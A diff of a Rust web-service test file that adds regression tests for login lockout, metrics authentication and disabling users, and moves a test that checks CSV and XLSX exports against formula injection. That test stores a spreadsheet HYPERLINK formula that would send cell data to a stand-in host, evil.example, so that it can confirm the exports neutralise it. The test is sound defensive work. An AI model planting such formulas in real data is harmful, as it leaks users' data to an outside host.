@@ -281,7 +281,9 @@ async fn bodies_are_bounded_and_json_is_required() {
 async fn metrics_are_prometheus_text() {
     let f = fixture();
     f.state.metrics.record_refusal("wrong_actor");
-    let req = Request::get("/metrics").body(Body::empty()).unwrap();
+    let admin = admin_token(&f.app).await;
+    let req =
+        Request::get("/metrics").header(header::AUTHORIZATION, format!("Bearer {admin}")).body(Body::empty()).unwrap();
     let resp = f.app.clone().oneshot(req).await.unwrap();
     assert_eq!(resp.status(), StatusCode::OK);
     assert_eq!(resp.headers()[header::CONTENT_TYPE], metrics::CONTENT_TYPE);
@@ -1657,39 +1659,170 @@ async fn reproject_fills_columns_added_by_an_upgrade() {
 
 // ------------------------------------------------------------------ issue 12: hardening
 
-/// Regression, issue 12 item 7: a cell that a spreadsheet would read as a
-/// formula (`= + - @`, tab, CR first) is written as text: a `'` before it
-/// in CSV, a string cell in XLSX. Numbers, negative ones too, stay numbers.
+/// A request as it arrives over a connection from `addr`.
+async fn call_from(
+    app: &Router,
+    addr: &str,
+    method: &str,
+    uri: &str,
+    token: Option<&str>,
+    body: Option<Value>,
+) -> (StatusCode, Value) {
+    let peer: SocketAddr = format!("{addr}:40000").parse().unwrap();
+    let mut req = Request::builder().method(method).uri(uri).extension(ConnectInfo(peer));
+    if let Some(t) = token {
+        req = req.header(header::AUTHORIZATION, format!("Bearer {t}"));
+    }
+    let req = match body {
+        Some(b) => req.header(header::CONTENT_TYPE, "application/json").body(Body::from(b.to_string())),
+        None => req.body(Body::empty()),
+    }
+    .unwrap();
+    let resp = app.clone().oneshot(req).await.unwrap();
+    let status = resp.status();
+    let bytes = axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap();
+    (status, serde_json::from_slice(&bytes).unwrap_or_else(|_| Value::String(String::from_utf8_lossy(&bytes).into())))
+}
+
+async fn login_from(app: &Router, addr: &str, username: &str, password: &str) -> (StatusCode, Value) {
+    let body = json!({ "username": username, "password": password });
+    call_from(app, addr, "POST", "/api/login", None, Some(body)).await
+}
+
+/// Regression, issue 12 item 11: failures lock out one user at one
+/// address. Before, five wrong passwords from anywhere locked the user out
+/// everywhere, and locked everyone behind that address (an office's NAT).
 #[tokio::test]
-async fn exports_never_hand_a_spreadsheet_a_formula() {
+async fn wrong_passwords_lock_out_one_user_at_one_address_only() {
     let f = fixture();
-    f.state.db.write(|tx| crate::central::ensure_catalog(tx)).unwrap();
-    let id = push_request(&f.state, "1271010101900003");
-    // A kiosk-supplied agency as it might have been stored by an older
-    // server (the agency is a free-text field of a kiosk's event).
-    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"klik")"#;
-    f.state
-        .db
-        .write(|tx| {
-            tx.execute("UPDATE requests SET agency = ?1 WHERE doc_id = ?2", rusqlite::params![formula, id])
-                .map_err(crate::store::StoreError::from)
-        })
-        .unwrap();
-    let (status, _, csv_bytes) = download(&f, "/admin/permohonan.csv?periode=2025-11").await;
+    for _ in 0..f.state.config.login_failures_max {
+        let (status, body) = login_from(&f.app, "10.1.1.1", "admin", "salah-sandi-123").await;
+        assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "invalid_credentials"));
+    }
+    let (status, body) = login_from(&f.app, "10.1.1.1", "admin", ADMIN_PASSWORD).await;
+    assert_eq!((status, code(&body)), (StatusCode::TOO_MANY_REQUESTS, "too_many_attempts"), "that pair is locked");
+    let (status, body) = login_from(&f.app, "10.2.2.2", "admin", ADMIN_PASSWORD).await;
+    assert_eq!(status, StatusCode::OK, "the real admin elsewhere: {body}");
+    let (status, body) = login_from(&f.app, "10.1.1.1", "pengawas", "rahasia-pengawas").await;
+    assert_eq!(status, StatusCode::OK, "a colleague behind the same address: {body}");
+}
+
+/// Regression, issue 12 item 11: many failures for one user from many
+/// addresses slow every attempt for that user down (one per slow-down
+/// interval, for every address together), except from an address the user
+/// logged in from before; other users are not slowed.
+#[tokio::test]
+async fn failures_from_many_addresses_slow_a_user_down_except_where_they_logged_in_before() {
+    let f = fixture();
+    let (status, _) = login_from(&f.app, "10.9.9.9", "admin", ADMIN_PASSWORD).await;
+    assert_eq!(status, StatusCode::OK, "the admin's own office");
+    let threshold = f.state.config.login_user_failures_max;
+    for i in 0..threshold {
+        let (status, body) = login_from(&f.app, &format!("10.3.0.{}", i + 1), "admin", "salah-sandi-123").await;
+        assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "invalid_credentials"), "attempt {i}");
+    }
+    // From a new address: one attempt per interval for everyone together.
+    let (status, body) = login_from(&f.app, "10.4.0.1", "admin", "salah-sandi-456").await;
+    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "invalid_credentials"), "the interval's attempt");
+    let (status, body) = login_from(&f.app, "10.4.0.2", "admin", ADMIN_PASSWORD).await;
+    assert_eq!((status, code(&body)), (StatusCode::TOO_MANY_REQUESTS, "too_many_attempts"), "slowed down");
+    // Where the admin logged in before, no wait; other users are not slowed.
+    let (status, body) = login_from(&f.app, "10.9.9.9", "admin", ADMIN_PASSWORD).await;
+    assert_eq!(status, StatusCode::OK, "from a known address: {body}");
+    let (status, body) = login_from(&f.app, "10.4.0.3", "pengawas", "rahasia-pengawas").await;
+    assert_eq!(status, StatusCode::OK, "another user: {body}");
+}
+
+/// Regression, issue 12 item 11: `/metrics` was open to anyone.
+#[tokio::test]
+async fn metrics_need_an_admin_or_the_metrics_token() {
+    let f = fixture();
+    let (status, body) = call(&f.app, "GET", "/metrics", None, None).await;
+    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "unauthorized"));
+    let (_, body) = login(&f.app, "pengawas", "rahasia-pengawas").await;
+    let (status, body) = call(&f.app, "GET", "/metrics", body["token"].as_str(), None).await;
+    assert_eq!((status, code(&body)), (StatusCode::FORBIDDEN, "forbidden"), "a supervisor");
+    let admin = admin_token(&f.app).await;
+    let (status, body) = call(&f.app, "GET", "/metrics", Some(&admin), None).await;
     assert_eq!(status, StatusCode::OK);
-    let rows: Vec<Vec<String>> = csv::Reader::from_reader(&csv_bytes[..])
-        .records()
-        .map(|r| r.unwrap().iter().map(String::from).collect())
-        .collect();
-    assert!(rows[0].contains(&format!("'{formula}")), "{rows:?}");
-    assert!(rows.iter().flatten().all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{rows:?}");
-    let (_, _, xlsx) = download(&f, "/admin/permohonan.xlsx?periode=2025-11").await;
-    assert!(xlsx_rows(xlsx.clone())[1].contains(&formula.to_owned()), "the XLSX keeps the text as a string cell");
-    use calamine::{Reader, Xlsx};
-    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(xlsx)).unwrap();
-    let name = book.sheet_names()[0].clone();
-    let formulas = book.worksheet_formula(&name).unwrap();
-    assert!(formulas.cells().all(|(_, _, f)| f.is_empty()), "a formula in the sheet");
+    assert!(body.as_str().unwrap().contains("loket_kiosks_enrolled"), "{body}");
+
+    // With `metrics_token_file`: that token reads them, another does not.
+    let token = "ab".repeat(32);
+    let mut state = f.state.clone();
+    state.metrics_token_hash = Some(crate::auth::token_hash(&token).into());
+    let app = router(state);
+    let (status, body) = call(&app, "GET", "/metrics", Some(&token), None).await;
+    assert_eq!(status, StatusCode::OK);
+    assert!(body.as_str().unwrap().contains("loket_logins_total"), "{body}");
+    let (status, body) = call(&app, "GET", "/metrics", Some(&"cd".repeat(32)), None).await;
+    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "unauthorized"));
+}
+
+/// Regression, issue 12 item 11: an admin disables a user; the user's
+/// sessions (API and web) stop working at their next request, the right
+/// password is refused, and the audit log says who did it, to whom and
+/// why. Enabling lets the user log in again (the old sessions stay gone).
+#[tokio::test]
+async fn a_disabled_user_is_shut_out_at_once_and_it_is_audited() {
+    let f = fixture();
+    let admin = admin_token(&f.app).await;
+    let (_, body) = login(&f.app, "pengawas", "rahasia-pengawas").await;
+    let token = body["token"].as_str().unwrap().to_owned();
+    let web = web_session_for(&f, "pengawas");
+    let web_get = |cookie: String| {
+        let app = f.app.clone();
+        async move {
+            let req = Request::get("/admin/permohonan").header(header::COOKIE, cookie).body(Body::empty()).unwrap();
+            app.oneshot(req).await.unwrap().status()
+        }
+    };
+    let cookie = format!("__Host-loket_session={web}");
+    assert_eq!(call(&f.app, "GET", "/api/admin/requests", Some(&token), None).await.0, StatusCode::OK);
+    assert_eq!(web_get(cookie.clone()).await, StatusCode::OK);
+
+    let disable = json!({ "reason": "pindah tugas" });
+    let (status, body) =
+        call(&f.app, "POST", "/api/admin/users/pengawas/disable", Some(&admin), Some(disable.clone())).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let (status, body) = call(&f.app, "GET", "/api/admin/requests", Some(&token), None).await;
+    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "unauthorized"), "the API session ended");
+    assert_eq!(web_get(cookie).await, StatusCode::SEE_OTHER, "the web session ended");
+    let (status, body) = login(&f.app, "pengawas", "rahasia-pengawas").await;
+    assert_eq!((status, code(&body)), (StatusCode::FORBIDDEN, "account_disabled"));
+    let (status, body) = login(&f.app, "pengawas", "salah-sandi-123").await;
+    assert_eq!((status, code(&body)), (StatusCode::UNAUTHORIZED, "invalid_credentials"), "says nothing more");
+
+    let (_, body) = call(&f.app, "GET", "/api/admin/audit", Some(&admin), None).await;
+    let row = &body["items"][0];
+    assert_eq!(
+        (&row["action"], &row["username"], &row["subject"], &row["reason"]),
+        (&json!("disable_user"), &json!("admin"), &json!("pengawas"), &json!("pindah tugas")),
+        "{body}"
+    );
+
+    // No admin can shut themself out; an unknown user is 404; a reason is needed.
+    let (status, body) = call(&f.app, "POST", "/api/admin/users/admin/disable", Some(&admin), Some(disable)).await;
+    assert_eq!((status, code(&body)), (StatusCode::CONFLICT, "cannot_disable_self"));
+    let (status, body) =
+        call(&f.app, "POST", "/api/admin/users/nobody/disable", Some(&admin), Some(json!({ "reason": "tidak ada" })))
+            .await;
+    assert_eq!((status, code(&body)), (StatusCode::NOT_FOUND, "not_found"));
+    let (status, body) = call(&f.app, "POST", "/api/admin/users/pengawas/enable", Some(&admin), Some(json!({}))).await;
+    assert_eq!((status, code(&body)), (StatusCode::UNPROCESSABLE_ENTITY, "reason_required"));
+
+    let enable = json!({ "reason": "kembali bertugas" });
+    let (status, body) = call(&f.app, "POST", "/api/admin/users/pengawas/enable", Some(&admin), Some(enable)).await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let (status, _) = call(&f.app, "GET", "/api/admin/requests", Some(&token), None).await;
+    assert_eq!(status, StatusCode::UNAUTHORIZED, "the old session stays ended");
+    let (status, body) = login(&f.app, "pengawas", "rahasia-pengawas").await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let (_, body) = call(&f.app, "GET", "/api/admin/audit", Some(&admin), None).await;
+    assert_eq!(
+        (&body["items"][0]["action"], &body["items"][0]["subject"]),
+        (&json!("enable_user"), &json!("pengawas"))
+    );
 }
 
 /// Regression, issue 12 item 9: refusals name the field, never the value
@@ -1741,4 +1874,39 @@ async fn refusals_name_the_field_never_the_value() {
     assert_eq!(resp.status(), StatusCode::UNAUTHORIZED);
     let html = String::from_utf8(axum::body::to_bytes(resp.into_body(), 1 << 20).await.unwrap().to_vec()).unwrap();
     assert!(!html.to_lowercase().contains(&secret.to_lowercase()), "the login page echoed what was typed");
+}
+
+/// Regression, issue 12 item 7: a cell that a spreadsheet would read as a
+/// formula (`= + - @`, tab, CR first) is written as text: a `'` before it
+/// in CSV, a string cell in XLSX. Numbers, negative ones too, stay numbers.
+#[tokio::test]
+async fn exports_never_hand_a_spreadsheet_a_formula() {
+    let f = fixture();
+    f.state.db.write(|tx| crate::central::ensure_catalog(tx)).unwrap();
+    let id = push_request(&f.state, "1271010101900003");
+    // A kiosk-supplied agency as it might have been stored by an older
+    // server (the agency is a free-text field of a kiosk's event).
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"klik")"#;
+    f.state
+        .db
+        .write(|tx| {
+            tx.execute("UPDATE requests SET agency = ?1 WHERE doc_id = ?2", rusqlite::params![formula, id])
+                .map_err(crate::store::StoreError::from)
+        })
+        .unwrap();
+    let (status, _, csv_bytes) = download(&f, "/admin/permohonan.csv?periode=2025-11").await;
+    assert_eq!(status, StatusCode::OK);
+    let rows: Vec<Vec<String>> = csv::Reader::from_reader(&csv_bytes[..])
+        .records()
+        .map(|r| r.unwrap().iter().map(String::from).collect())
+        .collect();
+    assert!(rows[0].contains(&format!("'{formula}")), "{rows:?}");
+    assert!(rows.iter().flatten().all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])), "{rows:?}");
+    let (_, _, xlsx) = download(&f, "/admin/permohonan.xlsx?periode=2025-11").await;
+    assert!(xlsx_rows(xlsx.clone())[1].contains(&formula.to_owned()), "the XLSX keeps the text as a string cell");
+    use calamine::{Reader, Xlsx};
+    let mut book: Xlsx<_> = Xlsx::new(std::io::Cursor::new(xlsx)).unwrap();
+    let name = book.sheet_names()[0].clone();
+    let formulas = book.worksheet_formula(&name).unwrap();
+    assert!(formulas.cells().all(|(_, _, f)| f.is_empty()), "a formula in the sheet");
 }
